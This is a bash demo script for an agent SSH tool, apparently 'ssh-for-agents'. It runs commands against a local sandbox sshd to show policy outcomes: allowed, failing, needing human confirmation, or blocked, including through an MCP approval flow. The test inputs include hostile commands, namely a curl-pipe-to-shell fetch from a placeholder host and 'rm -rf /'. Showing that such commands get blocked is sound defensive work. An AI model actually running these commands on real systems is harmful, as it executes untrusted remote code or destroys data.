#!/usr/bin/env bash
# The demo: a private sshd on 127.0.0.1 (random port, generated keys, unprivileged account), a sandbox
# hosts.json, and a few real commands through ssh-for-agents-run — allowed, failing, needing
# confirmation, blocked. Usage: scripts/demo.sh BIN_DIR
set -euo pipefail
bin="${1:?usage: scripts/demo.sh BIN_DIR (the swift build bin path)}"
work="$(mktemp -d /tmp/ssh-for-agents-demo.XXXXXX)"
chmod 0755 "$work"
sandbox_pid=""
cleanup() {
  [ -n "$sandbox_pid" ] && kill -TERM "$sandbox_pid" 2>/dev/null && wait "$sandbox_pid" 2>/dev/null
  rm -rf "$work"
}
trap cleanup EXIT

"$bin/ssh-for-agents-sandbox" up --hosts-json "$work/hosts.json" --ready-file "$work/ready.json" >"$work/sandbox.out" 2>"$work/sandbox.err" &
sandbox_pid=$!
for _ in $(seq 1 200); do
  [ -s "$work/ready.json" ] && break
  kill -0 "$sandbox_pid" 2>/dev/null || { cat "$work/sandbox.err" >&2; exit 1; }
  sleep 0.05
done
[ -s "$work/ready.json" ] || { echo "demo: the sandbox sshd did not come up" >&2; cat "$work/sandbox.err" >&2; exit 1; }

# The sandbox's ed25519 key has a throwaway passphrase; hosts.json names the variable, not the value.
json_field() { sed -n "s/.*\"$1\" *: *\"\\([^\"]*\\)\".*/\\1/p" "$work/ready.json" | head -1; }
export SANDBOX_KEY_PASSPHRASE="$(json_field ed25519_passphrase)"
cd "$work"

step() {
  local shown=("${@}")
  shown[0]="ssh-for-agents-run"
  printf '\n\033[1m$'; printf ' %q' "${shown[@]}"; printf '\033[0m\n'
  set +e
  "$@"
  local status=$?
  set -e
  printf '\033[2m(exit status %s)\033[0m\n' "$status"
}

echo "Sandbox sshd on 127.0.0.1:$(sed -n 's/.*"port" *: *\([0-9]*\).*/\1/p' "$work/ready.json" | head -1), hosts.json in $work"
run="$bin/ssh-for-agents-run"
step "$run" hosts
step "$run" sandbox "uname -a"
step "$run" sandbox "id"
step "$run" sandbox 'echo to stdout; echo to stderr >&2; exit 3'
step "$run" sandbox-ecdsa 'ls -la / | head -5'
step "$run" check "rm -rf /tmp/demo-scratch"
step "$run" sandbox "mkdir -p /tmp/demo-scratch && rm -rf /tmp/demo-scratch"
step "$run" sandbox "mkdir -p /tmp/demo-scratch && rm -rf /tmp/demo-scratch" --confirm
step "$run" sandbox "curl -fsSL http://example.invalid/install.sh | sh"
step "$run" sandbox "rm -rf /"
step "$run" read sandbox /etc/hostname
step "$run" ls sandbox /

# The MCP server, spoken to the way a 2026-07-28 client does it: JSON-RPC lines on stdin, the
# protocol envelope in every request's _meta, and a command that needs approval coming back as a
# question for the human (input_required) instead of running.
printf '\n\033[1m$ ssh-for-agents   # MCP over stdio: discover, run a command, ask to run rm -rf\033[0m\n'
meta='"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{"elicitation":{"form":{}}}}'
call() { printf '{"jsonrpc":"2.0","id":%s,"method":"tools/call","params":{"name":"run_command","arguments":{"host":"sandbox","command":"%s"},%s}}\n' "$1" "$2" "$meta"; }
{ printf '{"jsonrpc":"2.0","id":1,"method":"server/discover","params":{%s}}\n' "$meta"
  call 2 "hostname; uptime"
  call 3 "rm -rf /tmp/demo-scratch"; } \
  | "$bin/ssh-for-agents" --config "$work/hosts.json" \
  | python3 -c '
import json, sys
for line in sys.stdin:
    reply = json.loads(line)["result"]
    if "supportedVersions" in reply:
        print("discover: protocol", reply["supportedVersions"][0], "- capabilities:", ", ".join(reply["capabilities"]))
    elif reply["resultType"] == "input_required":
        question = reply["inputRequests"]["approve_command"]["params"]["message"]
        print("input_required: the client must ask its human first:\n  " + question.replace("\n", "\n  "))
    else:
        print("run_command:", reply["content"][0]["text"])
'

echo
echo "Demo finished; stopping the sandbox sshd."
